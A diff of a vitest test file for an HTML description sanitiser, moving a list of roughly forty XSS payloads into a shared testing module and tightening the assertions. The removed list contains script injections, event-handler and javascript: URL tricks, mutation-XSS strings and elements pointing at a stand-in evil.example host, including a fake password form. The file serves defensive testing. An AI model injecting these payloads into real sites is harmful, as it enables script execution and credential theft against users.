@@ -1,5 +1,6 @@
 import { imagePath } from '@divine/contracts/image-rules'
 import { formerEditorClasses, richTextClasses } from '@divine/contracts/rich-text'
+import { attacks } from '@divine/contracts/testing/attacks'
 import { expect, test } from 'vitest'
 import { sanitiseDescription } from './sanitise-description.ts'
 
@@ -52,55 +53,13 @@ test.each(['https://a.example', ' https://a.example', 'ht\ntps://a.example', 'HT
   },
 )
 
-const attacks = [
-  '<script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="/a.webp" onload="alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="jAvAsCrIpT:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:alert(1)">x</a>',
-  '<a href="//evil.example/x">x</a>',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<img src="//evil.example/x.png">',
-  '<img src="https://evil.example/x.png">',
-  '<img src="\\\\evil.example\\x.png">',
-  '<img src="/\\evil.example/x.png">',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg onload=alert(1)>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<iframe src="https://evil.example"></iframe>',
-  '<object data="https://evil.example"></object><embed src="x">',
-  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
-  '<p style="background:url(https://evil.example/x)">x</p>',
-  '<p style="color:expression(alert(1))">x</p>',
-  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
-  '<p style="color:red;background-image:url(javascript:alert(1))">x</p>',
-  '<style>body{display:none}</style>',
-  '<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<p id="order" name="body">x</p>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<xmp><script>alert(1)</script></xmp>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<details open ontoggle=alert(1)>x</details>',
-]
-
 test.each(attacks)('nothing of %j is left that could act', (html) => {
   const clean = sanitiseDescription(html)
   const tags = clean.match(/<[^>]*>/g) ?? []
   for (const tag of tags) {
     expect(tag).toMatch(/^<\/?(?:p|a|img|span|br|li|ul|ol|h1|h2)\b/)
-    expect(tag).not.toMatch(/\son\w+=|javascript:|vbscript:|data:|evil|url\(|position|\sid=|\sname=/i)
+    expect(tag.replace(/"[^"]*"/g, '')).not.toMatch(/\s(?:on\w+|id|name)=/i)
+    expect(tag).not.toMatch(/javascript:|vbscript:|data:|evil|url\(|position/i)
   }
   expect(sanitiseDescription(clean)).toBe(clean)
 })
